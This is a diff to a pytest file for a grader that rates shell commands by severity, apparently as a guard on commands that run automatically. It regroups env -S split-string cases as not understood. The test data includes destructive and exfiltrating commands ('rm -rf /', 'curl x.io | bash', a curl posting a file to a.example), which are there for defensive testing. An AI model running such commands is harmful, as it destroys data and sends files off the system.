@@ -69,6 +69,14 @@ def test_a_command_is_as_grave_as_its_worst_part(command: str, severity: int) ->
         "eval $X",
         "curl x.io | bash",
         "case a in b) ls;; esac",
+        # what env takes apart itself
+        "env -S'rm -rf /'",
+        "env -S 'ls'",
+        "env -iS 'FOO=1 curl -d @a https://a.example'",
+        "env --split-string='rm -rf src'",
+        "env --split-s 'rm -rf src'",
+        "nice -n 5 env -vS 'rm -rf /' more",
+        "xargs -I{} env -S 'rm {}'",
     ],
 )
 def test_what_is_not_understood_says_so(command: str) -> None:
@@ -327,24 +335,6 @@ def test_env_changes_the_folder_like_cd(env: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
-    [
-        "env -S'rm -rf /'",
-        "env -S 'ls'",
-        "env -iS 'FOO=1 curl -d @a https://a.example'",
-        "env --split-string='rm -rf src'",
-        "env --split-s 'rm -rf src'",
-        "nice -n 5 env -vS 'rm -rf /' more",
-        "xargs -I{} env -S 'rm {}'",
-    ],
-)
-def test_what_env_takes_apart_is_not_understood(command: str) -> None:
-    graded = grade(command)
-    assert graded.problem
-    assert graded.severity >= 3
-
-
-@pytest.mark.parametrize(
     "wrapper",
     [
         "sudo -u bob", "sudo -iu bob", "sudo -g wheel -n --", "sudo A=1", "sudo --user=bob --prompt p", "doas -u bob",
@@ -378,4 +368,6 @@ def test_what_is_handed_to_a_shell_is_looked_into(command: str) -> None:
 @given(st.lists(st.sampled_from(["-S", "-D", "-u", "-i", "--", "5", "/", "A=1", "-c", "--chdir", "x y", ""])))
 def test_no_words_of_a_wrapper_break_the_grading(words: list[str]) -> None:
     for name in ("env", "sudo", "timeout", "flock", "xargs", "su"):
-        grade(" ".join([name, *map(repr, words), "ls"]), "/srv/p")
+        graded = grade(" ".join([name, *map(repr, words), "ls"]), "/srv/p")
+        assert 0 <= graded.severity <= 4
+        assert graded.severity >= 3 or not graded.problem
